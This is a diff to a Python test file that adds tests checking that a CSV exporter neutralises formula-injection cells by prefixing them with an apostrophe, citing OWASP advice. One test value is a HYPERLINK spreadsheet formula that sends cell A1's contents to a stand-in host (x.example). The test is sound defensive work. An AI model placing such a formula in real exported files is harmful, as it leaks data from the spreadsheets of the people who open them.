@@ -23,7 +23,7 @@ from hypothesis import strategies as st
 
 from lineage.errors import RenderError
 from lineage.models import Comparison, Direction, Document, Edge, LineageGraph, Link, Passage
-from lineage.render.csv import CSV_HEADER, write_csv
+from lineage.render.csv import CSV_HEADER, write_csv, write_findings_csv
 from lineage.render.dot import dot_source, graph_to_dot, render_graph
 from lineage.render.json import comparison_to_json, graph_to_json, write_comparison_json, write_json
 from lineage.render.order import edge_kind
@@ -237,6 +237,37 @@ def test_csv_quotes_hostile_values() -> None:
     write_csv(hostile_graph('a,"b"\nc'), out)
     rows = list(csv.reader(io.StringIO(out.getvalue())))
     assert rows[1][0] == 'aa,"b"\nc'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_start_a_formula(start: str) -> None:
+    """OWASP's CSV-injection advice: a cell starting like a formula is prefixed with ' (text)."""
+    value = f'{start}HYPERLINK("http://x.example/?q="&A1,"click")'
+    graph = hostile_graph("x")
+    edge = replace(graph.edges[0], source=value, target=start + "2")
+    out = io.StringIO()
+    write_csv(replace(graph, edges=(edge,)), out)
+    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
+    assert row[:2] == ["'" + value, "'" + start + "2"]
+    assert row[2] == "verbatim" and row[3] == "0"  # other cells as they were
+
+
+def test_findings_csv_cells_never_start_a_formula() -> None:
+    out = io.StringIO()
+    finding = {
+        "document": "=1+1",
+        "parent": "@SUM(A1)",
+        "agency": "-A",
+        "share": 0.5,
+        "credited": True,
+        "licensed": False,
+        "violations": ["uncredited"],
+        "drift": [],
+    }
+    write_findings_csv({"findings": [finding]}, out)
+    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
+    assert row[:3] == ["'=1+1", "'@SUM(A1)", "'-A"]
+    assert row[3] == "0.5000"  # numbers stay numbers
 
 
 def test_format_table_golden() -> None:
